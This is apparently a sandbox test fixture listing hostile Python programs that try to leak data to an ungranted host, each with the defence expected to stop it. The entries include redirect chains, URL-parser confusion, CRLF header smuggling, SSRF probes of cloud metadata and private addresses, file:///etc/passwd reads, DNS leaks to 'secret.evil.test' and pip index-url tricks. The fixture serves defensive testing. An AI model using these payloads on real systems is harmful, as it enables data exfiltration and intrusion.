/** Ways out to a host that nobody has granted. What the other server hears is checked after each. */
import type { HostileProgram } from './hostile-program';

export const EXFILTRATION: readonly HostileProgram[] = [
  {
    tries: 'asks another host, through every library',
    code: `import urllib.request, http.client as client
from goru import http
print([fate(f) for f in (lambda: http.get('@FOREIGN@/leak'), lambda: urllib.request.urlopen('@FOREIGN@/leak'), lambda: client.HTTPConnection('@FOREIGN_HOST@').request('GET', '/leak'))])`,
    ends: /^ok: \[('\w+Error'(, )?){3}\]\n$/,
    heldBy: 'http service: the grant, before anything is sent',
  },
  {
    tries: 'is redirected there (302, 307, 308, in two hops)',
    code: `from urllib.parse import quote
to = quote('@FOREIGN@/leak?secret', safe='')
two = quote('@GRANTED@/redirect?to=' + to, safe='')
print([fate(f) for f in (lambda: http.get('@GRANTED@/redirect?to=' + to), lambda: http.post('@GRANTED@/redirect?code=307&to=' + to, body='secret'), lambda: http.get('@GRANTED@/redirect?code=308&to=' + to), lambda: http.get('@GRANTED@/redirect?to=' + two))])`,
    ends: /^ok: \[('NetworkError'(, )?){4}\]\n$/,
    heldBy: 'broker.html: its own Content Security Policy stops a redirect before it is sent',
  },
  {
    tries: 'is redirected to another scheme',
    code: `from urllib.parse import quote
print([fate(lambda: http.get('@GRANTED@/redirect?to=' + quote(t, safe=''))) for t in ('data:text/plain,granted', 'file:///etc/passwd', 'javascript:alert(1)', 'blob:x', 'ftp://localhost/')])`,
    ends: /^ok: \[('NetworkError'(, )?){5}\]\n$/,
    heldBy: 'the browser, and broker.html’s policy for data:',
  },
  {
    tries: 'writes the host in ways that parsers disagree about',
    code: `g, f = '@GRANTED_HOST@', '@FOREIGN_HOST@'
urls = [f'http://{g}@{f}/leak', f'http://{g}%40{f}/leak', f'http://{f}#{g}', f'http://{f}?{g}', f'http://{f}\\\\@{g}/', f'http:/{f}/leak', f'http:{f}/leak', f'//{f}/leak', f'HTTP://{f.upper()}/leak', f'http://{g}.{f}/leak', f'http://{f}\\t/leak', f'ht\\ntp://{f}/leak', f'http://local\\u00adhost:{f.split(":")[1]}/leak', f'http://\\uff4cocalhost:{f.split(":")[1]}/leak', f'http://{f}./leak', f'http://localhost.:{f.split(":")[1]}/leak', f' http://{f}/leak', f'http://[::ffff:127.0.0.1]:{f.split(":")[1]}/leak', f'http://0x7f.1:{f.split(":")[1]}@{f}/leak']
print([u for u in urls if not fate(lambda: http.get(u)).endswith('Error')])`,
    ends: /^ok: \[\]\n$/,
    heldBy: 'http service: the one parser of grants, checks and requests is the browser’s',
  },
  {
    tries: 'asks with schemes that are not HTTP',
    code: `import urllib.request
print([fate(lambda: http.get(u)) for u in ('file:///etc/passwd', 'data:text/plain,x', 'blob:null/1', 'javascript:1', 'ws://@FOREIGN_HOST@/', 'ftp://@FOREIGN_HOST@/', 'view-source:http://@FOREIGN_HOST@/', 'about:blank')], fate(lambda: urllib.request.urlopen('ftp://@FOREIGN_HOST@/x')), fate(lambda: urllib.request.urlopen('file:///etc/passwd')))`,
    ends: /^ok: \[('ArgumentError'(, )?){8}\] \w+Error \w+Error\n$/,
    heldBy: 'http service: http and https, nothing else',
  },
  {
    tries: 'smuggles a second request into headers, method or path',
    code: `print([fate(f) for f in (lambda: http.get('@GRANTED@/echo', headers={'X': 'a\\r\\nHost: @FOREIGN_HOST@'}), lambda: http.get('@GRANTED@/echo', headers={'X\\r\\nY': 'a'}), lambda: http.get('@GRANTED@/echo', headers={'Host': '@FOREIGN_HOST@'}), lambda: http.get('@GRANTED@/echo', headers={'Cookie': 'a=b'}), lambda: http.request('GET / HTTP/1.1\\r\\nHost: x', '@GRANTED@/echo'), lambda: http.request('CONNECT', '@GRANTED@/'), lambda: http.request('TRACE', '@GRANTED@/'), lambda: http.get('@GRANTED@/echo', headers={'X-HTTP-Method-Override': 'CONNECT'}))])`,
    ends: /^ok: \[('ArgumentError'(, )?){8}\]\n$/,
    heldBy: 'http service: methods and headers are checked by form',
  },
  {
    tries: 'sends the visitor’s cookies, or a password in the address',
    code: `import json
print('cookie' in http.get('@GRANTED@/echo').json()['headers'], 'referer' in http.get('@GRANTED@/echo').json()['headers'], fate(lambda: http.get('@GRANTED@/echo'.replace('//', '//user:secret@'))))`,
    ends: /^ok: False False ArgumentError\n$/,
    heldBy: 'broker.html: credentials are left out, no Referer',
  },
  {
    tries: 'asks for more than it may read',
    code: `print(fate(lambda: http.get('@GRANTED@/bytes?count=3000000')), fate(lambda: http.post('@GRANTED@/echo', body='x' * 2_000_000)))`,
    ends: /^ok: LimitError LimitError\n$/,
    heldBy: 'limits.http.responseBytes and requestBytes',
  },
  {
    tries: 'changes the address while it is checked',
    code: `class Twice(str):
    def __str__(self): return '@FOREIGN@/leak'
    def encode(self, *a): return b'@FOREIGN@/leak'
    def replace(self, *a): return Twice('@FOREIGN@/leak')
    def lower(self): return '@GRANTED@'
import asyncio
url = Twice('@FOREIGN@/leak')
async def main(): return [type(r).__name__ for r in await asyncio.gather(*(http.async_get(u) for u in [url, '@GRANTED@/echo'] * 10), return_exceptions=True)]
print(sorted(set(asyncio.run(main()))))`,
    ends: /^ok: \['GoruPermissionError', '\w*Response'\]\n$/,
    heldBy: 'http service: what is checked is what is sent',
  },
  {
    tries: 'tells the package index a secret in a name',
    code: `def no(r):
    try: return install_pkg(r)
    except RuntimeError as e: return str(e).split(':')[0][:60]
print([no(r) for r in ('secret-0123', 'allowed-secret', '../../leak', 'allowed/../leak', 'allowed?leak', 'allowed#leak', 'evil @ @FOREIGN@/leak-1.0-py3-none-any.whl', ['allowed2'], '--index-url=@FOREIGN@', '-r@FOREIGN@/x', 'git+@FOREIGN@/x')])`,
    ends: /^ok: (?!.*Installed).*not allowed.*\n$/,
    heldBy: 'packages service: the index hears no name that is not allowed',
  },
  {
    tries: 'installs an allowed package whose index redirects elsewhere',
    code: `print(fate(lambda: install_pkg('allowed')))`,
    ends: /^ok: NetworkError\n$/,
    heldBy: 'broker.html: a frame that can connect to the index’s host alone',
  },
  {
    tries: 'reaches devices of the visitor’s network',
    code: `print([fate(lambda: http.get(u)) for u in ('http://192.168.0.1/', 'http://10.0.0.1/', 'http://169.254.169.254/latest/meta-data/', 'http://[::1]/', 'http://0.0.0.0/', 'http://router.local/', 'http://2130706433/', 'http://127.1/')])`,
    ends: /^ok: \[('GoruPermissionError'(, )?){8}\]\n$/,
    heldBy: 'http service: the grant names 127.0.0.1 with a port, in every way to write it',
  },
  {
    tries: 'looks a name up, to say something to its DNS server',
    code: `import socket
print([fate(f) for f in (lambda: socket.gethostbyname('secret.evil.test'), lambda: socket.getaddrinfo('secret.evil.test', 80), lambda: socket.getfqdn('secret.evil.test') and 1 / 0, lambda: http.get('http://secret.evil.test/'))])`,
    ends: /^ok: \[('(\w+Error|gaierror|herror|error)'(, )?){4}\]\n$/,
    heldBy: 'no resolver in WASI; http service: the grant comes first',
  },
];
